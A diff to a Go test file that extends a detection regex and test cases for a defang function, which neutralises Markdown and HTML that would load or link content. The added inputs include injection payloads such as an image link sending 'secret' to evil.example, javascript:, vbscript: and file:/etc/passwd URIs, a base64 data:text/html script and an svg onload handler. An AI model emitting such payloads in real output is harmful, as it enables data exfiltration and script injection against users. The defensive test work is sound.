@@ -54,7 +54,7 @@ func TestQuote(t *testing.T) {
 }
 
 // renders matches what makes a Markdown or HTML renderer load or link something.
-var renders = regexp.MustCompile(`(?i)!\[|\]\(|\]\[|\]:|<[a-z/!?]|[a-z][a-z0-9+.-]*://|\bwww\.|\bmailto:|\bjavascript:`)
+var renders = regexp.MustCompile(`(?i)!\[|\]\(|\]\[|\]:|<[a-z/!?]|[a-z][a-z0-9+.-]*://|\bwww\.|\b(?:mailto|javascript|vbscript|file|blob|tel|obsidian):|\bdata:[a-z]+/|\[\[|\w@\w`)
 
 // T15: rendering a result loads nothing and links nowhere; every visible character is still there.
 func TestDefang(t *testing.T) {
@@ -62,6 +62,9 @@ func TestDefang(t *testing.T) {
 		"![x](http://evil.example/?q=secret)", "[a](https://evil.example)", "[a][b]\n\n[b]: //evil.example", "<img src=//evil.example/x>",
 		"see https://evil.example/a and www.evil.example", "<a href='javascript:x'>", "![[embed]]", "mailto:a@evil.example",
 		"[a]  (http://x.example)", "HTTP://X.example", "<https://x.example>", "a\u202eb\x1b]8;;http://x\x07",
+		"[[note]] and [[[x]]]", "obsidian:open?vault=x", "obsidian://open?vault=x", "data:text/html;base64,PHNjcmlwdD4=", "data:,x", "DATA:image/png,x",
+		"vbscript:x", "file:/etc/passwd", "blob:x", "tel:1", "mail ada@evil.example now", "[a]\n(//evil.example)", "[a]\n\n[a]: <data:text/html,x>",
+		"<https://x.example/\u200b>", "&lt;img src=x&gt; <!-- x --> <?x?>", "<svg/onload=x>", "$\\href{https://x.example}{a}$", "[![a](b)](c)",
 	} {
 		got := defang(text)
 		if found := renders.FindString(got); found != "" {
@@ -73,7 +76,7 @@ func TestDefang(t *testing.T) {
 			}
 		}
 	}
-	for _, plain := range []string{"Tomatoes want sun: 3 < 4, a[0] = 1.", "Über 5 °C → gießen", "Ask Bob (again)?", "data: see table", "🦙"} {
+	for _, plain := range []string{"Tomatoes want sun: 3 < 4, a[0] = 1.", "Über 5 °C → gießen", "Ask Bob (again)?", "data: see table", "🦙", "Ask @Ines", "a [b] c", "profile: x"} {
 		if got := defang(plain); got != plain {
 			t.Errorf("defang(%q) = %q, want no change", plain, got)
 		}
